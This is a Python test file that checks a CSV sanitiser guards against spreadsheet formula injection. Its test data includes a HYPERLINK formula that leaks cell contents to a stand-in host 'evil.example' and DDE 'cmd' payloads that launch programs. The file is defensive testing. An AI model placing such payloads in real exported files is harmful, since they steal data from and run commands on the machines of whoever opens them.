"""A cell of our CSV is text, whatever somebody wrote into it."""

import csv
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from trato.spreadsheets import FORMULA_STARTS, csv_lines, safe_cell

CELLS = st.text(st.characters(codec="utf-8"))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Refund")',
        "=cmd|' /C calc'!A0",
        "+34 600 000 000",
        "-2+3+cmd|' /C calc'!D2",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\xa0=1+1",
        "＝1+1",
    ],
)
def test_what_starts_like_a_formula_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    ("value", "text"),
    [("Scam", "Scam"), ("a=b", "a=b"), ("", ""), (None, ""), (7, "7"), ("'=1", "'=1")],
)
def test_other_cells_stay_as_they_are(value: object, text: str) -> None:
    assert safe_cell(value) == text


@given(st.lists(st.lists(CELLS, min_size=2, max_size=3), max_size=4))
def test_no_cell_breaks_out_of_its_cell(rows: list[list[str]]) -> None:
    read = list(csv.reader(StringIO(csv_lines(rows), newline="")))
    assert [len(row) for row in read] == [len(row) for row in rows]
    for row, original in zip(read, rows, strict=True):
        for cell, text in zip(row, original, strict=True):
            assert cell in (text, f"'{text}")
            assert not cell.startswith(FORMULA_STARTS)
